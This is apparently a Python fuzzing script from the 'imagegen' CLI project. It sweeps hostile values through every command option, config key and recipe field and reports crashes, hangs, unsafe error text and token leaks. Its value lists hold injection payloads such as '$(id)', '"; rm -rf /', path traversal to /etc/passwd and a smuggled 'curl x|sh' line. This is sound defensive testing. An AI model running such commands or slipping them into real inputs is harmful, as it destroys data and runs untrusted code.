"""Drive imagegen with hostile values, one at a time, and list every run that broke the contract.

    python benchmarks/hostile_sweep.py options   # every option of every command, 17 values each
    python benchmarks/hostile_sweep.py config    # every key of imagegen.toml, 21 values, 4 commands
    python benchmarks/hostile_sweep.py recipes   # every field of every catalogue recipe, 5 of 14 values (seeded)

hostile_campaign.py picks its cases by hand, class by class; this sweep is the other half: it generates
them, one value at a time in every place a user's value enters. It judges each run as the campaign does
(its `classify`, `unsafe_text` and `leaks`): a run breaks the contract when it ends in exit 70, a
traceback, a signal, a hang (30 s) or a messy error (not exactly one `imagegen: error:` line, the last),
when its error line holds a control or bidi character, or when the planted token is in its output or in
a file it wrote. Each run is `python -m imagegen ...` in a folder of its own under a temporary folder.
Every run that broke it is printed as one JSON line; the last line counts the runs. Nothing here is a
test: each defect it finds gets its regression test in tests/unit (the sweep of 2026-11-28: test_cli_options,
test_config, test_recipe_reader and test_recipe_file; docs/security.md).
"""

from __future__ import annotations

import argparse
import concurrent.futures
import copy
import itertools
import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import yaml
from hostile_campaign import TOKEN as SECRET
from hostile_campaign import classify, leaks, unsafe_text

ROOT = Path(__file__).resolve().parents[1]
RECIPES = ROOT / "imagegen" / "resources" / "recipes"
IMAGEGEN = [sys.executable, "-m", "imagegen"]

OPTION_VALUES = ["", "$(id)", "../../../etc/passwd", "-1", "99999999999999999999999", "a" * 5000, "x\u202ey", "nan",
                 "1e309", "a\nb", f"https://u:{SECRET}@h/x", "{{7*7}}", "\"; rm -rf /", "0", "9.0;;", "/dev/zero",
                 "/proc/self/mem"]
# The words before the option: enough for each command to reach its own checks.
COMMAND_BASES = {
    "render": ["render", "sage"], "plan": ["plan", "sage"], "bake": ["bake", "sage"],
    "build": ["build", "sage", "--print-env"], "verify": ["verify", "none.whl"], "check": ["check", "none.whl"],
    "doctor": ["doctor"], "cdi-spec": ["cdi-spec"],
    "refresh": ["refresh", "--dry-run", "--index-url", "http://127.0.0.1:9/simple"],
    "recipes": ["recipes"], "archs": ["archs", "9.0"], "push": ["push", "sage"], "pull": ["pull", "sage"],
    "lock": ["lock", "sage"], "collect": ["collect", "none"], "index": ["index", "none"], "repair": ["repair", "none.whl"],
    "publish": ["publish", "none", "--dry-run"], "ci": ["ci", "github"],
}
CONFIG_KEYS = ["out", "layout", "registry", "flavor", "base-image", "recipe-dirs", "torch-index-url", "offline",
               "matrix.recipes", "matrix.torch", "matrix.cuda", "matrix.python", "matrix.arch", "bogus"]
CONFIG_VALUES = ['""', '"$(id)"', '"../../../etc"', "-1", "99999999999999999999", '"' + "a" * 5000 + '"',
                 '"x\\u202ey"', "nan", "inf", '"a\\nb"', f'"https://u:{SECRET}@h/x"', '"{{7*7}}"', '["a", 1]',
                 '[[["x"]]]', "{a = 1}", "true", "[]", '"/dev/zero"', '"9.0;;"', "1979-05-27T07:32:00Z", '"\\u0000"']
CONFIG_COMMANDS = [["render", "sage"], ["plan", "sage"], ["bake", "sage"], ["build", "sage", "--print-env", "--native"]]
RECIPE_VALUES = ["", "$(id)\n RUN curl x|sh", "../../../../etc/passwd", -1, 10**30, "a" * 5000, "x\u202ey",
                 float("nan"), f"https://u:{SECRET}@h/x", [["x"]], {"a": {"b": 1}}, None, True, "9.0;;"]


def run(argv: list[str], cwd: Path) -> dict | None:
    """One run in ``cwd``; a dict describing it when it broke the contract."""
    inputs = set(cwd.rglob("*"))
    try:
        proc = subprocess.run(IMAGEGEN + argv, capture_output=True, text=True, timeout=30, cwd=cwd,
                              stdin=subprocess.DEVNULL, env={**os.environ, "PYTHONPATH": str(ROOT)})
        outcome = classify(proc.returncode, proc.stdout, proc.stderr, False)
    except subprocess.TimeoutExpired:
        return {"argv": [a[:80] for a in argv], "broke": "hang"}
    written = b"".join(p.read_bytes()[:1 << 20] for p in cwd.rglob("*")
                       if p not in inputs and p.is_file() and not p.is_symlink())
    broke = [b for b, yes in (
        (outcome, outcome not in ("ok", "refused")),
        ("unsafe message", unsafe_text(proc.stderr)),
        ("leak", leaks((proc.stdout + proc.stderr).encode() + written)),
    ) if yes]
    return {"argv": [a[:80] for a in argv], "exit": proc.returncode, "broke": broke,
            "tail": (proc.stdout + proc.stderr)[-400:]} if broke else None


def options_jobs():
    for command, base in COMMAND_BASES.items():
        words = ["ci", "github"] if command == "ci" else [command]
        helptext = subprocess.run(IMAGEGEN + words + ["--help"], capture_output=True, text=True,
                                  env={**os.environ, "PYTHONPATH": str(ROOT)}).stdout
        for option in sorted(set(re.findall(r"(?<![\w-])(--[a-z][a-z0-9-]+)", helptext)) - {"--help"}):
            for value in OPTION_VALUES:
                yield base + [option, value], None


def config_jobs():
    for key, value, command in itertools.product(CONFIG_KEYS, CONFIG_VALUES, CONFIG_COMMANDS):
        table, _, name = key.rpartition(".")
        text = f"[{table}]\n{name} = {value}\n" if table else f"{name} = {value}\n"
        yield command, {"imagegen.toml": text}


def _leaves(node, path=()):
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _leaves(value, path + (key,))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            yield from _leaves(value, path + (i,))
    else:
        yield path


def recipes_jobs():
    pick = random.Random(7)
    for file in sorted(RECIPES.glob("*.yaml")):
        original = yaml.safe_load(file.read_text())
        for path in _leaves(original):
            for value in pick.sample(RECIPE_VALUES, 5):
                doc = copy.deepcopy(original)
                node = doc
                for part in path[:-1]:
                    node = node[part]
                node[path[-1]] = value
                yield (["render", original["name"], "--recipe-dir", "recipes"],
                       {f"recipes/{file.name}": yaml.safe_dump(doc, allow_unicode=True), "recipes/patches": None})


def sweep(kind: str, workers: int) -> int:
    jobs = {"options": options_jobs, "config": config_jobs, "recipes": recipes_jobs}[kind]
    broken = count = 0
    with tempfile.TemporaryDirectory(prefix="imagegen-sweep-") as tmp:
        work = Path(tmp)

        def one(numbered):
            i, (argv, files) = numbered
            folder = work / str(i)
            folder.mkdir()
            for name, text in (files or {}).items():
                target = folder / name
                target.parent.mkdir(parents=True, exist_ok=True)
                if text is None:  # the catalogue's patches, beside a changed recipe
                    shutil.copytree(RECIPES / "patches", target)
                else:
                    target.write_text(text)
            try:
                return run(argv, folder)
            finally:
                shutil.rmtree(folder, ignore_errors=True)

        with concurrent.futures.ThreadPoolExecutor(workers) as pool:
            for found in pool.map(one, enumerate(jobs())):
                count += 1
                if found:
                    broken += 1
                    print(json.dumps(found), flush=True)
    print(f"{kind}: {count} runs, {broken} broke the contract", flush=True)
    return 1 if broken else 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("kind", choices=("options", "config", "recipes"))
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 2)
    args = ap.parse_args()
    return sweep(args.kind, args.workers)


if __name__ == "__main__":
    sys.exit(main())
